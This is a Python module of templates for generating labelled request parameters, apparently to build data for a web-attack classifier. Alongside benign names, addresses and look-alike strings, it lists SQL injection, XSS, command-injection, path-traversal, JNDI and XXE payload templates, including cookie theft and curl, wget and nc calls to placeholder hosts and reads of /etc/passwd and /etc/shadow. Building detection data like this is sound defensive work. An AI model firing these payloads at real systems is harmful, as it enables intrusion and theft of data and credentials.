"""What request parameters look like, by class. Own patterns, written from what is commonly documented of
these attacks; none is taken from a data set."""

from __future__ import annotations

WORDS = {
    "first": (
        "Anna", "Jan", "María José", "Sinéad", "Li Wei", "Oluwaseun", "D'Arcy", "Priya", "Björn", "Tom",
    ),
    "last": (
        "O'Brien", "Müller", "van der Berg", "Smith", "Garcia", "D'Angelo", "Kowalski", "Nguyen",
        "St. John",
    ),
    "word": (
        "garden", "blue", "union", "table", "report", "script", "select", "order", "drop", "image", "river",
        "users", "update", "the", "where", "from", "and", "or", "cat", "shell", "window", "alert", "house",
        "key", "sleep",
    ),
    "noun": (
        "shoes", "a red lamp", "train tickets", "used cars", "blue chairs", "Linux books", "garden tables",
    ),
    "city": (
        "Leeds", "São Paulo", "Aix-en-Provence", "L'Aquila", "Cork", "Kraków", "Graz",
    ),
    "host": (
        "example.com", "example.org", "mail.example.net", "shop.example",
    ),
    "ext": (
        "pdf", "html", "png", "txt", "sql", "js", "sh",
    ),
    "table": (
        "users", "accounts", "orders", "information_schema.tables", "mysql.user", "sysobjects", "members",
    ),
    "column": (
        "id", "name", "password", "email", "version()", "user()", "table_name", "null", "~2~",
    ),
    "open": (
        "'", '"', "')", '")', "'))", "", "", "~3~", "-~3~", "~3~'", "%'", "~word~'",
    ),
    "comment": (
        "--", "-- ", "#", "/*", ";--", "", "-- ~word~", ";%00",
    ),
    "js": (
        "alert(~2~)", "alert('~word~')", "alert(document.cookie)", "confirm`~2~`", "eval(atob('~word~'))",
        "document.location='//~host~/'+document.cookie", "fetch('//~host~')", "prompt(~1~)",
        "top['al'+'ert'](~1~)",
    ),
    "event": (
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart",
    ),
    "tag": (
        "img", "svg", "body", "iframe", "input", "details", "video", "a", "div", "object",
    ),
    "break": (
        '">', "'>", "</textarea>", "", "", "-->", '"', "</title>", "~word~",
    ),
    "command": (
        "id", "cat /etc/passwd", "whoami", "ls -la", "ping -c ~1~ ~host~", "uname -a", "dir c:\\",
        "sleep ~2~", "curl http://~host~/~word~.sh", "wget ~host~/~word~", "nc ~host~ ~4~", "type boot.ini",
    ),
    "join": (
        ";", "|", "&&", "||", "`", "$(", "\n", "&", " ; ", "%0a",
    ),
    "up": (
        "../", "..\\", "..%2f", "%2e%2e/", "....//", "..%5c", "%252e%252e%252f",
    ),
    "ups": (
        "~up~~up~", "~up~~up~~up~", "~up~~up~~up~~up~~up~", "/~up~~up~~up~~up~~up~~up~",
    ),
    "secret": (
        "etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ", "WEB-INF/web.xml",
    ),
}  # fmt: skip

CLASSES: dict[str, tuple[str, ...]] = {
    "normal": (
        "~first~", "~last~", "~first~ ~last~", "~last~, ~first~", "~word~~3~", "~word~_~word~", "~4~",
        "~8~", "~1~", "~word~.~word~@~host~", "~word~~2~@~host~", "+44 ~4~ ~6~", "~city~",
        "~word~ street ~2~, ~city~", "20~2~-0~1~-1~1~", "~noun~", "~noun~ in ~city~",
        "how to ~word~ a ~word~", "~word~ ~word~ ~word~ ~word~", "~first~ said: \"it's the ~word~ ~word~\"",
        "~noun~ & ~noun~", "~noun~ < ~3~ EUR", "1=1 is always true",
        "select the ~word~ from the ~word~ where ~word~", "~word~ or ~word~; ~word~ and ~word~ -- ~word~",
        "https://~host~/~word~/~word~?~word~=~3~&~word~=~word~", "/~word~/~word~/~word~.~ext~",
        "~word~.~ext~", "C:\\Users\\~word~\\~word~.~ext~", '{"~word~": "~word~", "~word~": ~3~}',
        "[~2~, ~2~, ~3~]", "<b>~word~</b> ~word~ ~word~", "<p>~noun~ for <i>~first~</i></p>",
        "if (~word~ > ~2~) ~word~();", "why does ' or ~1~=~1~ -- log me in?",
        "what does <script>alert(~1~)</script> do?", "~word~='~word~'", "$~3~.~2~", "~2~%",
        "#~word~ #~word~", "~word~/../~word~", "cat ~word~ | sort", "true", "null", "", "~8~~8~",
        "~first~ ~last~ <~word~@~host~>", "~word~(~word~)", "~word~'s ~word~", "~word~-~word~-~4~",
    ),
    "sql_injection": (
        "~open~ or ~2~=~2~~comment~", "~open~ or '~word~'='~word~~comment~", "~open~ and ~2~=~3~~comment~",
        "~open~ union select ~column~,~column~ from ~table~~comment~",
        "~open~ or ~1~=~1~ limit ~1~~comment~",
        "~open~ union all select ~column~,~column~,~column~~comment~", "~open~ order by ~1~~comment~",
        "~open~; drop table ~table~~comment~", "~open~; insert into ~table~ values (~2~,'~word~')~comment~",
        "~open~ and sleep(~1~)~comment~", "~open~; waitfor delay '0:0:~1~'~comment~", "~word~'~comment~",
        "~open~ and (select count(*) from ~table~)>~1~~comment~", "(select ~column~ from ~table~ limit 1)",
        "~open~ and extractvalue(~1~,concat(0x7e,(select ~column~)))~comment~",
        "~3~ having ~1~=~1~~comment~", "~open~ or exists(select * from ~table~)~comment~",
        "~open~ and benchmark(~6~,md5(~1~))~comment~",
        "~open~ and substring(~column~,1,1)='~word~'~comment~",
        "~3~;exec xp_cmdshell('~command~')~comment~", "~open~ procedure analyse()~comment~",
        "~open~ || (select ~column~) || '", "admin'~comment~",
    ),
    "xss_attack": (
        "~break~<script>~js~</script>", "~break~<~tag~ ~event~=~js~>",
        '~break~<~tag~ src=x ~event~="~js~">', "~break~<svg/~event~=~js~>", "javascript:~js~",
        '~break~ ~event~=~js~ ~word~="', "~break~<~tag~ ~event~='~js~'",
        '~break~<a href="javascript:~js~">~word~</a>', "~break~<script src=//~host~/~word~.js></script>",
        "<iframe src=javascript:~js~>", '<~tag~ style="background:url(javascript:~js~)">', "';~js~;//",
        '";~js~//', '<object data="data:text/html,<script>~js~</script>">',
        "{{constructor.constructor('~js~')()}}",
        '<meta http-equiv=refresh content="0;url=javascript:~js~">',
        "\\x3cscript\\x3e~js~\\x3c/script\\x3e", "&lt;script&gt;~js~&lt;/script&gt;",
        '<img src="~word~.png" ~event~=~js~', "<~tag~ ~event~=~word~>",
    ),
    "other_attack": (
        "~join~~command~", "~word~~join~~command~", "~join~ ~command~ ~join~",
        "~word~.~ext~~join~~command~", "$(~command~)", "`~command~`", "~ups~~secret~",
        "~ups~~secret~%00.~ext~", "file:///~secret~", "~ups~~word~.~ext~", "/~secret~",
        "~word~/~ups~~secret~", "c:\\~secret~", "php://filter/convert.base64-encode/resource=~word~",
        "system('~command~')", 'exec("~command~")', "{{~2~*~2~}}", "${jndi:ldap://~host~/~word~}",
        "*)(uid=*))(|(uid=*", '<!--#exec cmd="~command~"-->', '<!ENTITY ~word~ SYSTEM "file:///~secret~">',
    ),
}  # fmt: skip
"""Patterns by class, in the target's order. Among the normal ones are some that an attack is spelled like."""
